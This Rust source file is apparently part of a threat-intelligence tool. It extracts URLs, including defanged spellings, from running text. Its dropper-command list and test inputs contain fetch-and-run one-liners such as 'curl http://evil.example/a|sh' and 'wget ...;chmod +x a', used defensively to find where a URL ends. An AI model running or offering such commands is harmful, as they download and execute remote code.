//! URLs in running text.

use std::borrow::Cow;

use url::Host;

use crate::host::{HostFound, Run, run_end};
use crate::observable::{Observable, ObservableType};
use crate::parse;
use crate::refang::Refanged;
use crate::text::{byte, byte_before, char_at, has_word, is_label_byte, piece, skip, skip_back};

/// The longest spelling of a scheme with its brackets: `[h**p[s]]`.
const SCHEME_MAX_BYTES: usize = 16;
/// How far an at sign is looked for that makes what precedes it the userinfo.
const AUTHORITY_MAX_BYTES: usize = 512;
/// A name of 253 bytes, each of them escaped, and more than that.
const HOST_MAX_BYTES: usize = 1024;
/// Longer than any browser follows.
const URL_MAX_BYTES: usize = 16 * 1024;

/// A URL and where it ends.
#[derive(Debug)]
pub struct Link {
    pub url: Observable,
    pub start: usize,
    pub end: usize,
}

/// The URL whose scheme ends with the colon at `colon`.
pub fn parse(refanged: &Refanged<'_>, colon: usize, floor: usize) -> Option<Link> {
    let text = refanged.text();
    let slashes_end = skip(text, colon + 1, 8, |b| b == b'/' || b == b'\\');
    let slashes = piece(text, colon + 1, slashes_end);
    if slashes.is_empty() {
        return None;
    }
    let (scheme, start) = scheme_before(text, colon, floor)?;
    let is_web = scheme.starts_with("http");
    if slashes.len() == 1 && !is_web {
        return None;
    }
    let mut host_start = slashes_end;
    if is_web && byte(text, host_start) == b' ' && is_label_byte(byte(text, host_start + 1)) {
        host_start += 1;
    }
    let reading = Reading { refanged, start, has_backslashes: slashes.starts_with('\\') && !slashes.contains('/') };
    reading.read(scheme, host_start, host_start > slashes_end)
}

/// `http__evil.example/a`, as file names and mail gateways spell it.
pub fn underscored(refanged: &Refanged<'_>, run: &Run) -> Option<Link> {
    let text = refanged.text();
    let (scheme, spelled) = [("http", "http__"), ("https", "https__"), ("http", "hxxp__"), ("https", "hxxps__")]
        .into_iter()
        .find(|(_, spelled)| has_word(text, run.start, spelled))?;
    Reading { refanged, start: run.start, has_backslashes: false }.read(scheme, run.start + spelled.len(), false)
}

/// A host in running text with a path behind it: a URL without its scheme, read as http.
pub fn schemeless(refanged: &Refanged<'_>, host: &HostFound, floor: usize) -> Option<Link> {
    let text = refanged.text();
    let mut at = host.end;
    if byte(text, at) == b':' {
        at = skip(text, at + 1, 5, |b| b.is_ascii_digit());
    }
    let after = char_at(text, at + 1);
    let is_path = match byte(text, at) {
        // Behind an address, digits are the length of a prefix.
        b'/' if host.observable.kind() == ObservableType::Ipv4Addr => {
            after.is_some_and(|c| c.is_ascii_alphabetic() || "?~_.".contains(c))
        }
        b'/' => true,
        b'?' => after.is_some_and(|c| c.is_ascii_alphanumeric()),
        _ => false,
    };
    if !is_path || is_port_of(text, host, at) || has_other_scheme(text, host.start) {
        return None;
    }
    // `url(//evil.example/a)`: what closes it stands before the slashes.
    let is_relative = byte_before(text, host.start) == b'/' && byte_before(text, host.start - 1) == b'/';
    let start = if is_relative { host.start - 2 } else { host.start };
    let (scheme, start) = escaped_scheme_before(text, host.start, floor).unwrap_or(("http", start));
    Reading { refanged, start, has_backslashes: false }.read(scheme, host.start, false)
}

/// The scheme before `https%3A//evil.example/a`, `https%3A%2F%2Fevil.example/a`, and where it starts.
fn escaped_scheme_before(text: &str, host_start: usize, floor: usize) -> Option<(&'static str, usize)> {
    let before = |at: usize, spelled: &str| {
        at.checked_sub(spelled.len()).filter(|start| *start >= floor && has_word(text, *start, spelled))
    };
    let slash = |at: usize| before(at, "/").or_else(|| before(at, "%2F"));
    let colon = before(slash(slash(host_start)?)?, "%3A")?;
    scheme_before(text, colon, floor).filter(|(scheme, _)| scheme.starts_with("http"))
}

/// `192.0.2.7/tcp`: a protocol behind an address is no path.
fn is_port_of(text: &str, host: &HostFound, slash: usize) -> bool {
    let end = skip(text, slash + 1, SCHEME_MAX_BYTES, |b| b.is_ascii_alphanumeric());
    host.observable.kind() == ObservableType::Ipv4Addr
        && ["tcp", "udp", "icmp", "sctp"].into_iter().any(|name| name.eq_ignore_ascii_case(piece(text, slash + 1, end)))
        && !matches!(byte(text, end), b'/' | b'?' | b'-' | b'_')
        && !(byte(text, end) == b'.' && is_label_byte(byte(text, end + 1)))
}

/// Schemes of which nothing is read over the web.
const OTHER_SCHEMES: [&str; 22] = [
    "smb",
    "file",
    "ssh",
    "rdp",
    "vnc",
    "git",
    "svn",
    "nfs",
    "afp",
    "telnet",
    "mysql",
    "postgres",
    "postgresql",
    "mongodb",
    "redis",
    "amqp",
    "mqtt",
    "irc",
    "ircs",
    "rtsp",
    "rtmp",
    "jdbc",
];

/// `smb://evil.example/a`: the host is meant, and no web page.
fn has_other_scheme(text: &str, host_start: usize) -> bool {
    let Some(colon) = host_start.checked_sub(3).filter(|at| piece(text, *at, host_start) == "://") else {
        return false;
    };
    let start = skip_back(text, colon, colon.saturating_sub(SCHEME_MAX_BYTES), |b| b.is_ascii_alphanumeric());
    OTHER_SCHEMES.into_iter().any(|scheme| scheme.eq_ignore_ascii_case(piece(text, start, colon)))
}

/// The scheme that is spelled before `colon`, as it is meant, and where its spelling starts.
fn scheme_before(text: &str, colon: usize, floor: usize) -> Option<(&'static str, usize)> {
    let low = floor.max(colon.saturating_sub(SCHEME_MAX_BYTES));
    let mut at = skip_back(text, colon, low.max(colon.saturating_sub(2)), |b| b == b' ' || b == b'!');
    // The letters and their positions, from the last one on.
    let mut letters = Vec::with_capacity(SCHEME_MAX_BYTES);
    let mut closed = 0_usize;
    while at > low {
        at -= 1;
        match byte(text, at) {
            b if b.is_ascii_alphabetic() || matches!(b, b'*' | b'#') => letters.push((b.to_ascii_lowercase(), at)),
            b']' | b')' | b'}' | b'>' => closed += 1,
            b'[' | b'(' | b'{' | b'<' if closed > 0 || letters.len() < 3 => closed = closed.saturating_sub(1),
            _ => break,
        }
    }
    let spelled: Vec<u8> = letters.iter().rev().map(|(letter, _)| *letter).collect();
    let (scheme, length) = scheme_of(&spelled)?;
    Some((scheme, letters.get(length.checked_sub(1)?)?.1))
}

/// The scheme that these lower-case letters are meant to end with, and how many of them spell it.
fn scheme_of(letters: &[u8]) -> Option<(&'static str, usize)> {
    // A web scheme may be glued to the word before it.
    let is_web = |four: [u8; 4]| matches!(four, [b'h', a, b, b'p'] if is_blotted(a) && is_blotted(b));
    match *letters {
        [.., a, b, c, d, b's'] if is_web([a, b, c, d]) => return Some(("https", 5)),
        [.., a, b, c, d] if is_web([a, b, c, d]) => return Some(("http", 4)),
        _ => {}
    }
    let scheme = match letters {
        b"xxxx" | b"xxxp" | b"meow" | b"htp" | b"ttp" => "http",
        b"xxxxx" | b"xxxps" | b"meows" | b"htps" | b"ttps" => "https",
        b"ftp" | b"fxp" | b"ftx" | b"f*p" => "ftp",
        b"ftps" | b"fxps" | b"ftxs" | b"f*ps" => "ftps",
        b"sftp" | b"sfxp" => "sftp",
        b"tcp" => "tcp",
        b"udp" => "udp",
        b"ws" | b"wxs" => "ws",
        b"wss" => "wss",
        b"ldap" => "ldap",
        b"ldaps" => "ldaps",
        _ => return None,
    };
    Some((scheme, letters.len()))
}

fn is_blotted(b: u8) -> bool {
    matches!(b, b't' | b'x' | b'z' | b'*' | b'#')
}

/// Reads one URL from its host on.
struct Reading<'a> {
    refanged: &'a Refanged<'a>,
    /// Where the URL starts: it ends at the latest where what stands right before it is closed.
    start: usize,
    /// `http:\\evil.example\a`: backslashes are slashes here, and elsewhere they end the URL.
    has_backslashes: bool,
}

impl Reading<'_> {
    fn read(&self, scheme: &str, start: usize, is_spaced: bool) -> Option<Link> {
        let text = self.refanged.text();
        let authority_end =
            skip(text, start, AUTHORITY_MAX_BYTES, |b| !matches!(b, b'/' | b'\\' | b'?' | b'#') && !is_end_byte(b));
        let host_start = piece(text, start, authority_end).rfind('@').map_or(start, |at| start + at + 1);
        let host_end = host_end(text, host_start)?;
        // Judged before the rest is read, so that reading is not in vain: a text may hold the same bad start many times.
        let host = piece(text, host_start, host_end);
        let is_masked = byte(text, host_end) == b'*';
        if is_masked || !is_plausible(host) || (is_spaced && parse::domain(host).is_err()) {
            return None;
        }
        let mut at = host_end;
        if byte(text, at) == b':' {
            let port_end = skip(text, at + 1, 5, |b| b.is_ascii_digit());
            let port = piece(text, at + 1, port_end);
            if port.parse::<u16>().is_ok() || (port.is_empty() && byte(text, port_end) == b'/') {
                at = port_end;
            }
        }
        let end = match byte(text, at) {
            b'/' | b'?' | b'#' => self.tail_end(at),
            b'\\' if self.has_backslashes || byte(text, at + 1) == b'/' => self.tail_end(at),
            _ => at,
        };
        let end = at + trimmed(piece(text, at, end), char::from(byte_before(text, self.start))).len();
        let spelled = format!("{scheme}://{}", self.cleaned(start, end));
        Observable::parse(ObservableType::Url, &spelled).ok().map(|url| Link { url, start: self.start, end })
    }

    /// Where path, query and fragment end at the latest.
    fn tail_end(&self, start: usize) -> usize {
        let text = self.refanged.text();
        let opener = byte_before(text, self.start);
        let closer = match opener {
            b'[' => b']',
            b'(' => b')',
            b'{' => b'}',
            // Slack: `<https://evil.example/a|Open>`.
            b'<' => b'|',
            b'\'' => b'\'',
            b'|' | b',' | b'*' => opener,
            // A field of a table.
            0 | b'\n' if self.refanged.is_table() => b',',
            _ => 0,
        };
        let limit = start.saturating_add(URL_MAX_BYTES);
        let mut depth = 0_usize;
        let mut at = start;
        while let Some(c) = char_at(text, at).filter(|_| at < limit) {
            match c {
                _ if c.is_ascii() && is_end_byte(c as u8) => break,
                _ if !c.is_ascii() && is_foreign_end(c) => break,
                '\\' if !self.has_backslashes && byte(text, at + 1) != b'/' => break,
                '&' if is_markup_entity(text, at) => break,
                ',' | ';' | '|' if is_scheme_at(text, at + 1) => break,
                ';' | '|' | '&' if is_command_at(text, at) => break,
                ',' if is_date_at(text, at + 1) => break,
                ']' if byte(text, at + 1) == b'(' => break,
                _ if c.is_ascii() && c as u8 == opener && closer != opener => depth += 1,
                _ if closer != 0 && u32::from(c) == u32::from(closer) => match depth.checked_sub(1) {
                    Some(less) => depth = less,
                    None => break,
                },
                _ => {}
            }
            at += c.len_utf8();
        }
        at
    }

    /// Without the escapes of JSON and HTML.
    fn cleaned(&self, start: usize, end: usize) -> Cow<'_, str> {
        let spelled = piece(self.refanged.text(), start, end);
        let mut cleaned = Cow::Borrowed(spelled);
        if spelled.contains('\\') {
            let replaced = spelled.replace("\\/", "/");
            cleaned = Cow::Owned(if self.has_backslashes { replaced.replace('\\', "/") } else { replaced });
        }
        if spelled.contains("&amp;") {
            cleaned = Cow::Owned(cleaned.replace("&amp;", "&"));
        }
        cleaned
    }
}

/// Where the host that starts at `start` ends: an address in brackets, or a run without what closes a sentence.
fn host_end(text: &str, start: usize) -> Option<usize> {
    if byte(text, start) == b'[' {
        let end = skip(text, start + 1, 64, |b| b.is_ascii_hexdigit() || b == b':' || b == b'.');
        return (byte(text, end) == b']').then_some(end + 1);
    }
    let mut end = run_end(text, start);
    // Browsers decode escapes in a host: `evil%2Eexample`.
    while byte(text, end) == b'%' && piece(text, end + 1, end + 3).bytes().filter(u8::is_ascii_hexdigit).count() == 2 {
        end = run_end(text, end + 3);
    }
    // A dot before the path is the root of the DNS; at the end of everything it closes a sentence.
    let end = if matches!(byte(text, end), b'/' | b':') {
        end
    } else {
        skip_back(text, end, start, |b| matches!(b, b'.' | b'-' | b'_'))
    };
    (end > start).then_some(end)
}

/// A host on the Internet: an address, or at least two labels.
fn is_plausible(host: &str) -> bool {
    // One number is an address only when it can fill 32 bits; masked ones, `203.*.7`, leave a short one.
    if host.len() > HOST_MAX_BYTES || (host.len() < 8 && host.bytes().all(|b| b.is_ascii_digit())) {
        return false;
    }
    match Host::parse(host) {
        Ok(Host::Domain(name)) => parse::dotted_name(&name).is_ok(),
        Ok(_) => true,
        Err(_) => parse::dotted_name(host).is_ok(),
    }
}

/// Bytes that no URL in running text goes beyond.
fn is_end_byte(b: u8) -> bool {
    b <= b' ' || matches!(b, b'"' | b'<' | b'>' | b'`' | 0x7f)
}

/// Quotes, brackets, full stops and spaces of other scripts.
fn is_foreign_end(c: char) -> bool {
    c.is_whitespace()
        || crate::defang::is_hidden(c)
        || matches!(c, '\u{ab}' | '\u{bb}' | '\u{2014}' | '\u{2018}'..='\u{201f}' | '\u{2026}' | '\u{2039}' | '\u{203a}' | '\u{3001}' | '\u{3002}'
            | '\u{3008}'..='\u{3011}' | '\u{3014}'..='\u{301b}' | '\u{ff01}' | '\u{ff08}' | '\u{ff09}' | '\u{ff0c}' | '\u{ff1b}' | '\u{ff1f}')
}

/// An entity that stands for a character which ends a URL.
fn is_markup_entity(text: &str, at: usize) -> bool {
    ["&quot;", "&lt;", "&gt;", "&nbsp;", "&#39;", "&#34;", "&#x27;"]
        .into_iter()
        .any(|entity| has_word(text, at, entity))
}

fn is_scheme_at(text: &str, at: usize) -> bool {
    ["http://", "https://", "hxxp://", "hxxps://"].into_iter().any(|scheme| has_word(text, at, scheme))
}

/// Commands that droppers run on what they have just fetched.
const COMMANDS: [&str; 14] =
    ["chmod", "curl", "wget", "sh", "bash", "cd", "rm", "tftp", "ftpget", "busybox", "python", "perl", "sudo", "./"];

/// The end of a command and the start of the next: `;chmod`, `|sh`, `&&./`.
fn is_command_at(text: &str, at: usize) -> bool {
    let separator = byte(text, at);
    let second = skip(text, at, 2, |b| b == separator);
    let start = skip(text, second, 2, |b| b == b' ');
    let is_whole = |end: usize| !is_label_byte(byte(text, end)) && !matches!(byte(text, end), b'=' | b'.');
    (separator != b'&' || second == at + 2)
        && COMMANDS
            .into_iter()
            .any(|command| has_word(text, start, command) && (command == "./" || is_whole(start + command.len())))
}

/// `2015-09-03`, the next field of a table.
fn is_date_at(text: &str, at: usize) -> bool {
    let shape = piece(text, at, at + 10);
    shape.len() == 10
        && shape.bytes().enumerate().all(|(i, b)| if i == 4 || i == 7 { b == b'-' } else { b.is_ascii_digit() })
}

/// Without the punctuation of the sentence around it, without brackets that were not opened in it, and without the marks of
/// emphasis when it starts with one: `**http://evil.example/a**`.
fn trimmed(tail: &str, before: char) -> &str {
    let excess = |open: char, close: char| {
        let count = |c: char| tail.matches(c).count();
        count(close).saturating_sub(count(open))
    };
    let mut excess = [(')', excess('(', ')')), (']', excess('[', ']')), ('}', excess('{', '}'))];
    let mut end = tail.len();
    while let Some(last) = tail.get(..end).and_then(|kept| kept.chars().next_back()) {
        let is_excess =
            excess.iter_mut().find(|(close, left)| *close == last && *left > 0).map(|(_, left)| *left -= 1).is_some();
        let is_single_star = last == '*' && !tail.get(..end - 1).is_some_and(|kept| kept.ends_with('*'));
        let is_emphasis = (last == before && "*_+~=-^".contains(last)) || is_single_star;
        if !is_excess && !is_emphasis && !".,;:!?'|\\\u{2013}\u{2026}".contains(last) {
            break;
        }
        end -= last.len_utf8();
    }
    tail.get(..end).unwrap_or(tail)
}

/// Where the scheme starts, plain or escaped, that ends at `at`: not before `floor`.
pub fn encoded_start(text: &str, at: usize, floor: usize) -> usize {
    let low = floor.max(at.saturating_sub(SCHEME_MAX_BYTES));
    let mut start = at;
    while start > low {
        let escape = start.saturating_sub(3);
        if escape >= low && is_escaped_letter(piece(text, escape, start)) {
            start = escape;
        } else if byte_before(text, start).is_ascii_alphabetic() {
            start -= 1;
        } else {
            break;
        }
    }
    start
}

/// Where the percent-encoded stretch ends that starts at `start` and goes on at `at`.
pub fn encoded_end(text: &str, start: usize, at: usize) -> usize {
    let closer = match byte_before(text, start) {
        b'(' => b')',
        opener => opener,
    };
    // What `encodeURIComponent` leaves as it is.
    let is_encoded =
        |b: u8| is_label_byte(b) || matches!(b, b'%' | b'.' | b'+' | b'~') || (b != closer && b"!*'()".contains(&b));
    skip(text, at, URL_MAX_BYTES, is_encoded)
}

/// `%68`, as some spell the scheme.
fn is_escaped_letter(escape: &str) -> bool {
    escape
        .strip_prefix('%')
        .and_then(|digits| u8::from_str_radix(digits, 16).ok())
        .is_some_and(|letter| letter.is_ascii_alphabetic())
}

#[cfg(test)]
mod tests {
    use crate::observable::ObservableType;

    fn check(text: &str, expected: &[&str]) {
        let found = crate::extract(text);
        let urls: Vec<&str> =
            found.iter().filter(|found| found.kind() == ObservableType::Url).map(crate::Observable::value).collect();
        assert_eq!(urls, expected, "{text:?}");
    }

    #[test]
    fn schemes_are_read_however_they_are_spelled() {
        for scheme in
            ["http", "HTTP", "hxxp", "hXXp", "h**p", "xXxX", "meow", "[http]", "(http)", "http!", "http ", "wordhttp"]
        {
            check(&format!("{scheme}://evil.example/a"), &["http://evil.example/a"]);
        }
        check("https%3A%2F%2Fevil.example/a", &["https://evil.example/a"]);
        for scheme in ["https", "hxxps", "hxxp[s]", "http(s)", "xxxxx", "meows"] {
            check(&format!("{scheme}://evil.example/a"), &["https://evil.example/a"]);
        }
        check("fxp://evil.example/a", &["ftp://evil.example/a"]);
        check("sftp://evil.example/a", &["sftp://evil.example/a"]);
        check("tcp://192.0.2.7:443", &["tcp://192.0.2.7:443/"]);
        check("javascript://evil.example/a", &["http://evil.example/a"]);
    }

    #[test]
    fn slashes_are_read_however_they_are_spelled() {
        for text in [
            "http:/evil.example/a",
            "http:///evil.example/a",
            "http:\\\\evil.example\\a",
            "http:\\evil.example/a",
            "http:\\/\\/evil.example\\/a",
            "http:// evil.example/a",
            "http__evil.example/a",
            "http%3A%2F%2Fevil%2Eexample%2Fa",
            "http%3A%2F%2Fevil.example/a",
            "http%3A//evil.example/a",
            "http://evil%2Eexample/a",
            "evil.example/a",
        ] {
            check(text, &["http://evil.example/a"]);
        }
    }

    #[test]
    fn sentences_and_markup_are_no_part_of_a_link() {
        for text in [
            "http://evil.example/a.",
            "http://evil.example/a,",
            "http://evil.example/a!",
            "(http://evil.example/a)",
            "[http://evil.example/a)",
            "[x](http://evil.example/a) y",
            "<http://evil.example/a>",
            "'http://evil.example/a'",
            "\u{201c}http://evil.example/a\u{201d}",
            "http://evil.example/a</td>",
            "http://evil.example/a&quot;",
            "**http://evil.example/a**",
            "++http://evil.example/a++",
            "http://evil.example/a\u{3002}",
            "http://evil.example/a\u{200b} b",
            "{\"u\":\"http:\\/\\/evil.example\\/a\"}",
            "http://evil.example/a]",
            "http://evil.example/a\\nb",
            "x,http://evil.example/a,y",
            "wget http://evil.example/a;chmod +x a",
            "curl http://evil.example/a|sh",
            "http://evil.example:/a",
            "http://evil.example/a,2026-01-01",
            "http://evil.example/a\u{2014}b",
            "http://evil.example/a\u{2013}",
            "http://evil.example/a*",
            "<http://evil.example/a|Open document>",
            "url(//evil.example/a);body{}",
        ] {
            check(text, &["http://evil.example/a"]);
        }
        check("http://evil.example/a,http://evil.example/b", &["http://evil.example/a", "http://evil.example/b"]);
        check("value,type\nhttp://evil.example/a,url", &["http://evil.example/a"]);
        check("http://evil.example[Evil]", &["http://evil.example/"]);
    }

    #[test]
    fn what_belongs_to_a_link_stays() {
        for url in [
            "http://evil.example/x_(y)",
            "http://evil.example/a;b=1",
            "http://evil.example/a,b.html",
            "http://evil.example/a]b",
            "http://user:pass@evil.example:8443/x#frag",
            "http://[2001:db8::5]:8080/x",
            "http://192.0.2.7/a?b=c&d=e",
            "http://evil.example/?q=%20_#z",
            "http://abc.onion/test",
            "http://a_b.evil.example/",
            "http://evil.nope/",
            "http://xn--t1e2s3t4.example/a",
        ] {
            check(url, &[url]);
            check(&format!("see ({url})."), &[url]);
        }
    }

    #[test]
    fn links_without_a_host_on_the_internet_are_none() {
        for text in [
            "http://",
            "http://*:80/a",
            "http://203.*.7/a",
            "http://intranet/",
            "http://<host>/a",
            "http://10",
            "192.0.2.7/24",
            "192.0.2.7/tcp",
            "192.0.2.7/udp.",
            "smb://evil.example/a",
            "a://b.c",
        ] {
            check(text, &[]);
        }
    }

    #[test]
    fn numbers_are_addresses_as_browsers_have_it() {
        check("http://3221225991/x", &["http://192.0.2.7/x"]);
        check("http://0xC0000207/", &["http://192.0.2.7/"]);
    }
}
